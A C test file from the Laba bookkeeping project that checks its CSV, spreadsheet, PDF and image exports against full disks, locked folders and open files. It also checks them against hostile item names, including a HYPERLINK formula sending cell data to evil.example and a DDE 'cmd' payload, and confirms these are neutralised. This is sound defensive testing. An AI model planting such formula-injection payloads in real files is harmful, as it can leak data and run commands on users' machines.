/* SPDX-FileCopyrightText: The Laba authors
 * SPDX-License-Identifier: GPL-3.0-or-later */

/* What leaves the book, each way: a list as plain rows and as a spreadsheet, pages,
 * pictures. On a full disk and where nothing may be written it says so, and what was
 * there before is whole; whatever people call things comes through as text. */
#include <glib/gstdio.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

#include "base/laba-language.h"
#include "exchange/laba-export.h"
#include "lib/laba-test.h"
#include "slips/laba-output.h"
#include "tables/laba-csv.h"
#include "tables/laba-table-file.h"

#define FONT "DejaVu Sans"
#define NOBODY 65534

/* ---- ways out ---- */

typedef gboolean (*Write) (const LabaTable *table, const char *path, GError **error);

static gboolean
write_format (const LabaTable *table,
              const char *format,
              const char *path,
              GError **error)
{
  return laba_export_table (table, laba_export_format_by_id (format), path, "en", error);
}

static gboolean
write_csv (const LabaTable *table, const char *path, GError **error)
{
  return write_format (table, "csv", path, error);
}

static gboolean
write_xlsx (const LabaTable *table, const char *path, GError **error)
{
  return write_format (table, "xlsx", path, error);
}

/* The table as a slip has its goods, the first text at its head, too. */
static LabaDocument *
make_document (const LabaTable *table)
{
  LabaDocument *document = laba_document_new (g_new0 (LabaShop, 1), "Nota");
  const LabaTableRow *first = table->rows->pdata[0];
  LabaBlock *block;

  document->shop->name = g_strdup (first->cells[0].text);
  laba_document_add_head (document, "Nota", first->cells[0].text);
  laba_block_add_fact (laba_document_add_facts (document), 0, "Pembeli",
                       first->cells[0].text);
  block = laba_document_add_table (document);
  laba_block_add_column (block, "Barang", LABA_DOCUMENT_COLUMN_LEAD, NULL);
  laba_block_add_column (block, "Nilai", LABA_DOCUMENT_COLUMN_FIGURE, NULL);
  for (guint i = 0; i < table->rows->len; i++)
    {
      const LabaTableRow *row = table->rows->pdata[i];
      LabaDocumentRow *line = laba_block_add_row (block, LABA_ROW_NORMAL, 0);

      laba_document_row_take (line, 0, g_strdup (row->cells[0].text));
      laba_document_row_take (line, 1, g_strdup_printf ("%u.000", i));
    }
  return document;
}

static gboolean
write_pdf (const LabaTable *table, const char *path, GError **error)
{
  g_autoptr (LabaDocument) document = make_document (table);
  g_autoptr (LabaLayout) layout
      = laba_layout_new (document, laba_paper_by_id ("a5"), FONT);

  return laba_output_write_pdf (layout, "Nota", path, NULL, error);
}

static gboolean
write_png (const LabaTable *table, const char *path, GError **error)
{
  g_autoptr (LabaDocument) document = make_document (table);
  g_autoptr (LabaLayout) layout
      = laba_layout_new (document, laba_paper_by_id ("a5"), FONT);

  return laba_output_write_png (layout, path, NULL, error);
}

static const struct
{
  const char *name;
  Write write;
} ways[] = {
  { "a.csv", write_csv },
  { "a.xlsx", write_xlsx },
  { "a.pdf", write_pdf },
  { "a.png", write_png },
};

static LabaTable *
make_table (const char *const *names, guint n)
{
  LabaTable *table = laba_table_new ("goods", "Goods", LABA_DAY_NONE, LABA_DAY_NONE);

  laba_table_add_column (table, "name", "Name", LABA_COLUMN_TEXT, FALSE);
  laba_table_add_column (table, "amount", "Amount", LABA_COLUMN_MONEY, TRUE);
  for (guint i = 0; i < n; i++)
    {
      LabaTableRow *row = laba_table_add_row (table, NULL, LABA_ROW_NORMAL);

      laba_row_set_text (table, row, "name", names[i]);
      laba_row_set_number (table, row, "amount", 1000 * (gint64) i);
    }
  laba_table_finish (table);
  return table;
}

static LabaTable *
make_long (void)
{
  static const char *names[200];

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    names[i] = g_intern_string ("Jilbab Segi Empat Voal, warna dusty pink");
  return make_table (names, G_N_ELEMENTS (names));
}

/* ---- refused ---- */

static guint
count_files (const char *folder)
{
  g_autoptr (GDir) dir = g_dir_open (folder, 0, NULL);
  guint n = 0;

  while (g_dir_read_name (dir) != NULL)
    n++;
  return n;
}

/* It says which file, and why; the old one is whole and nothing is beside it. */
static void
assert_refused (LabaTestDir *dir,
                guint way,
                const LabaTable *table,
                void (*begin) (const char *),
                void (*end) (const char *))
{
  g_autofree char *path = laba_test_dir_file (dir, ways[way].name);
  g_autofree char *folder = g_path_get_dirname (path);
  g_autofree char *kept = NULL;
  g_autoptr (GError) error = NULL;

  laba_test_write (path, "old");
  begin (folder);
  gboolean written = ways[way].write (table, path, &error);
  end (folder);
  if (written || strstr (error->message, "cannot be written") == NULL
      || strstr (error->message, ways[way].name) == NULL)
    g_error ("%s: %s", ways[way].name, written ? "written" : error->message);
  kept = laba_test_read (path);
  g_assert_cmpstr (kept, ==, "old");
  g_assert_cmpuint (count_files (folder), ==, 1);
}

static struct rlimit before;

/* A disk on which a file can grow no further. */
static void
fill_disk (const char *folder)
{
  struct rlimit limit;

  g_assert_cmpint (getrlimit (RLIMIT_FSIZE, &before), ==, 0);
  limit = before;
  limit.rlim_cur = 600;
  g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &limit), ==, 0);
}

static void
empty_disk (const char *folder)
{
  g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &before), ==, 0);
}

static void
test_full (void)
{
  g_autoptr (LabaTable) table = make_long ();

  signal (SIGXFSZ, SIG_IGN);
  for (guint i = 0; i < G_N_ELEMENTS (ways); i++)
    {
      g_autoptr (LabaTestDir) dir = laba_test_dir_new ();

      assert_refused (dir, i, table, fill_disk, empty_disk);
    }
}

/* Somebody else's folder; root would write there all the same. */
static void
lock_folder (const char *folder)
{
  g_assert_cmpint (g_chmod (folder, 0500), ==, 0);
  if (geteuid () == 0)
    g_assert_cmpint (seteuid (NOBODY), ==, 0);
}

static void
open_folder (const char *folder)
{
  if (getuid () == 0)
    g_assert_cmpint (seteuid (0), ==, 0);
  g_assert_cmpint (g_chmod (folder, 0700), ==, 0);
}

static void
test_locked (void)
{
  g_autoptr (LabaTable) table = make_long ();

  for (guint i = 0; i < G_N_ELEMENTS (ways); i++)
    {
      g_autoptr (LabaTestDir) dir = laba_test_dir_new ();

      assert_refused (dir, i, table, lock_folder, open_folder);
    }
}

/* A folder has that name. */
static void
test_taken (void)
{
  g_autoptr (LabaTable) table = make_long ();

  for (guint i = 0; i < G_N_ELEMENTS (ways); i++)
    {
      g_autoptr (LabaTestDir) dir = laba_test_dir_new ();
      g_autofree char *path = laba_test_dir_file (dir, ways[i].name);
      g_autofree char *folder = g_path_get_dirname (path);
      g_autoptr (GError) error = NULL;

      g_assert_cmpint (g_mkdir (path, 0700), ==, 0);
      g_assert_false (ways[i].write (table, path, &error));
      g_assert_nonnull (strstr (error->message, "cannot be written"));
      g_assert_cmpuint (count_files (folder), ==, 1);
    }
}

/* LibreOffice has it open. */
static void
test_open (void)
{
  g_autoptr (LabaTable) table = make_long ();

  for (guint i = 0; i < G_N_ELEMENTS (ways); i++)
    {
      g_autoptr (LabaTestDir) dir = laba_test_dir_new ();
      g_autofree char *path = laba_test_dir_file (dir, ways[i].name);
      g_autofree char *lock_name = g_strdup_printf (".~lock.%s#", ways[i].name);
      g_autofree char *lock = laba_test_dir_file (dir, lock_name);
      g_autoptr (GError) error = NULL;

      laba_test_write (path, "old");
      laba_test_write (lock, "");
      g_assert_false (ways[i].write (table, path, &error));
      g_assert_nonnull (strstr (error->message, "is open in another program"));
      g_autofree char *kept = laba_test_read (path);
      g_assert_cmpstr (kept, ==, "old");
    }
}

/* ---- hostile names ---- */

static const char *const hostile[] = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|A0",
  "\t=1+1",
  "'=1+1",
  "x;=1+1",
  "satu\n=dua",
  "a \"quoted\" name",
  "koma, titik; koma",
  "<b>&amp;</b>",
  "_x0041_",
  "\x01\x02 kendali \x1f",
  "👩‍💻 Emoji 🧕🏽",
  "שלום עולם نور الهدى",
  "\u202eterbalik",
  "ujung\xef\xbf\xbe\xef\xbf\xbf\xef\xb7\x90",
};

static LabaTable *
make_hostile (const char *long_name)
{
  const char *names[G_N_ELEMENTS (hostile) + 1];

  memcpy (names, hostile, sizeof hostile);
  names[G_N_ELEMENTS (hostile)] = long_name;
  return make_table (names, G_N_ELEMENTS (names));
}

/* Read back by what undoes the guards every name is as it was; without it none begins as
 * a formula does. */
static void
test_hostile_csv (void)
{
  g_autofree char *endless = g_strnfill (40000, 'x');
  g_autoptr (LabaTable) table = make_hostile (endless);
  g_autoptr (LabaTestDir) dir = laba_test_dir_new ();
  g_autofree char *path = laba_test_dir_file (dir, "a.csv");
  g_autoptr (GError) error = NULL;

  g_assert_true (write_csv (table, path, &error));
  g_autoptr (LabaCsv) csv = laba_csv_open (path, &error);
  g_assert_no_error (error);
  g_assert_true (laba_csv_next (csv, &error));
  for (guint i = 0; i < table->rows->len; i++)
    {
      g_autofree char *copy = NULL;

      g_assert_true (laba_csv_next (csv, &error));
      g_assert_null (strchr ("=+-@\t\r", csv->cells[0][0]));
      g_assert_cmpstr (laba_csv_unguard (csv->cells[0], &copy), ==,
                       ((const LabaTableRow *) table->rows->pdata[i])->cells[0].text);
    }
}

typedef struct
{
  const LabaTable *table;
  guint n;
} Reading;

static gboolean
row_cb (const LabaTableFileRow *row, gpointer data, GError **error)
{
  Reading *self = data;
  const char *name;

  if (row->number == 1 || row->number > self->table->rows->len + 1)
    return TRUE;
  g_assert_cmpint (row->cells[0].kind, ==, LABA_TABLE_CELL_TEXT);
  name
      = ((const LabaTableRow *) self->table->rows->pdata[row->number - 2])->cells[0].text;
  g_autofree char *stripped = g_strstrip (g_strdup (name));
  g_autofree char *clean = g_strdelimit (g_strdup (stripped), "\x01\x02\x1f\xef", '?');
  if (strlen (name) > 32767)
    g_assert_nonnull (strstr (row->cells[0].text, "40")); /* cut: says how long it was */
  else if (strcmp (clean, stripped) == 0)
    g_assert_cmpstr (row->cells[0].text, ==, stripped);
  else
    g_assert_true (strstr (row->cells[0].text, "kendali") != NULL
                   || g_str_has_prefix (row->cells[0].text, "ujung"));
  self->n++;
  return TRUE;
}

/* Text in the spreadsheet, too: a formula would have no text to be read. */
static void
test_hostile_xlsx (void)
{
  g_autofree char *endless = g_strnfill (40000, 'x');
  g_autoptr (LabaTable) table = make_hostile (endless);
  g_autoptr (LabaTestDir) dir = laba_test_dir_new ();
  g_autofree char *path = laba_test_dir_file (dir, "a.xlsx");
  g_autoptr (GError) error = NULL;
  Reading reading = { table, 0 };

  g_assert_true (write_xlsx (table, path, &error));
  g_autoptr (LabaTableFile) file = laba_table_file_open (path, &error);
  g_assert_no_error (error);
  g_assert_true (laba_table_file_read (file, 0, row_cb, &reading, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (reading.n, ==, table->rows->len);
}

/* As the shop's and the buyer's name and as goods, on a sheet and on a roll;
 * test-layout.c has one without end. */
static void
test_hostile_paper (void)
{
  static const char *const papers[] = { "a6", "58mm" };

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    for (guint j = 0; j < G_N_ELEMENTS (papers); j++)
      {
        const char *name = hostile[i];
        g_autoptr (LabaTable) table = make_table (&name, 1);
        g_autoptr (LabaDocument) document = make_document (table);
        g_autoptr (LabaLayout) layout
            = laba_layout_new (document, laba_paper_by_id (papers[j]), FONT);
        g_autoptr (LabaTestDir) dir = laba_test_dir_new ();
        g_autofree char *pdf = laba_test_dir_file (dir, "a.pdf");
        g_autofree char *png = laba_test_dir_file (dir, "a.png");
        g_autofree char *text = laba_document_to_text (document);
        g_autoptr (GError) error = NULL;

        g_assert_cmpuint (laba_layout_n_pages (layout), <=, 3);
        g_assert_true (laba_output_write_pdf (layout, name, pdf, NULL, &error));
        g_assert_true (laba_output_write_png (layout, png, NULL, &error));
        g_assert_nonnull (strstr (text, name));
      }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  laba_language_set ("en");
  g_test_add_func ("/outlets/full", test_full);
  g_test_add_func ("/outlets/locked", test_locked);
  g_test_add_func ("/outlets/taken", test_taken);
  g_test_add_func ("/outlets/open", test_open);
  g_test_add_func ("/outlets/hostile/csv", test_hostile_csv);
  g_test_add_func ("/outlets/hostile/xlsx", test_hostile_xlsx);
  g_test_add_func ("/outlets/hostile/paper", test_hostile_paper);
  return g_test_run ();
}
